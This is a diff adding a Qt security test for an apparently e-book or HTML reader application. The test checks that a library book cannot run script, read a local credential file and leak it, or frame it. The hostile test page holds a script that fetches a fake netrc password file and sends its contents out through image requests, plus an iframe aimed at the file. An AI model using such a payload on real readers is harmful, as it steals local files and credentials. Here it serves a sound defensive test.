@@ -5,6 +5,7 @@
 #include "platform/Hosts.h"
 #include "platform/WebView.h"
 #include "support/HttpTestServer.h"
+#include "support/MainWindowDriver.h"
 #include "support/TestAppFolder.h"
 #include "support/TestMain.h"
 
@@ -185,6 +186,82 @@ private slots:
         QCOMPARE(QUrl(address), QUrl::fromLocalFile(path));
         QVERIFY(address.endsWith(QStringLiteral("My Book.htm")));
         QCOMPARE(view.LocationName(), QStringLiteral("Local Book"));
+    }
+
+    // An HTML book in the library shows its own folder's style sheet; its script can neither
+    // run nor read a file of the computer and send it away, and no frame shows such a file.
+    void anHtmlBookReadsNothingOutsideItsFolder()
+    {
+        TestAppFolder app;
+        QTemporaryDir outside;
+        const QString secret = outside.filePath(QStringLiteral("netrc"));
+        {
+            QFile file(secret);
+            QVERIFY(file.open(QIODevice::WriteOnly));
+            file.write("machine mail login reader password hunter2");
+        }
+        const QString secretUrl = QUrl::fromLocalFile(secret).toString();
+        const QString server = m_server.url(QString());
+        app.addBook(QStringLiteral("style.css"),
+                    "body::before { content: \"Styled from the book folder\"; }");
+        const QString script =
+            QStringLiteral("<script>"
+                           "new Image().src = '%1/script-ran';"
+                           "fetch('%2').then(r => r.text()).then(t => {"
+                           "  new Image().src = '%1/leak?' + encodeURIComponent(t); });"
+                           "var x = new XMLHttpRequest(); x.open('GET', '%2', false);"
+                           "try { x.send(); new Image().src = '%1/leak?' + x.responseText; }"
+                           "catch (e) {}"
+                           "document.title = 'Script ran';"
+                           "</script>")
+                .arg(server, secretUrl);
+        const QString path = app.addBook(
+            QStringLiteral("Hostile.htm"),
+            pageHtml(QStringLiteral("Hostile Book"),
+                     QStringLiteral("<link rel=\"stylesheet\" href=\"style.css\">"
+                                    "<p>The book's own text.</p>"
+                                    "<iframe src=\"%1\" width=\"600\" height=\"100\"></iframe>%2")
+                         .arg(secretUrl, script)));
+        m_server.clearRequests();
+        // Opened from the library, as the reader opens it.
+        frmMain window(app.path());
+        QSignalSpy done(window.wbBook, &WebView::DownloadComplete);
+        QVERIFY(Driver::clickNode(window, QStringLiteral("Hostile.htm")));
+        QVERIFY(done.wait(LoadTimeout));
+        QTest::qWait(1000);
+        QCOMPARE(window.wbBook->LocationName(), QStringLiteral("Hostile Book"));
+        const QStringList targets = m_server.requestTargets();
+        QVERIFY2(targets.filter(QStringLiteral("/leak")).isEmpty(), qPrintable(targets.join(' ')));
+        QVERIFY2(targets.filter(QStringLiteral("/script-ran")).isEmpty(),
+                 qPrintable(targets.join(' ')));
+
+        // What the page shows, printed: the folder's style sheet applies, the secret is absent.
+        QTemporaryDir out;
+        const QString pdf = out.filePath(QStringLiteral("printed.pdf"));
+        WebView::setNextPrintFile(pdf);
+        QSignalSpy printed(window.wbBook, &WebView::printFinished);
+        window.PrintBook();
+        QVERIFY(printed.wait(LoadTimeout));
+        QProcess pdftotext;
+        pdftotext.start(QStringLiteral("pdftotext"), {pdf, QStringLiteral("-")});
+        QVERIFY(pdftotext.waitForFinished(30000));
+        const QByteArray text = pdftotext.readAllStandardOutput();
+        QVERIFY2(text.contains("The book's own text."), text.constData());
+        QVERIFY2(text.contains("Styled from the book folder"), text.constData());
+        QVERIFY2(!text.contains("hunter2"), text.constData());
+
+        // A page from the web keeps its scripts.
+        WebView view;
+        view.resize(800, 600);
+        view.show();
+        m_server.clearRequests();
+        QVERIFY(m_server.addFile(
+            QStringLiteral("scripted.html"),
+            pageHtml(QStringLiteral("Scripted"), QStringLiteral("<script>new Image().src = "
+                                                                "'/web-script-ran';</script>"))));
+        QVERIFY(loadPage(view, QStringLiteral("/scripted.html")));
+        QCOMPARE(m_server.waitForRequest(QStringLiteral("/web-script-ran")),
+                 QStringLiteral("/web-script-ran"));
     }
 
     void homeComesFromTheHostsSettings()
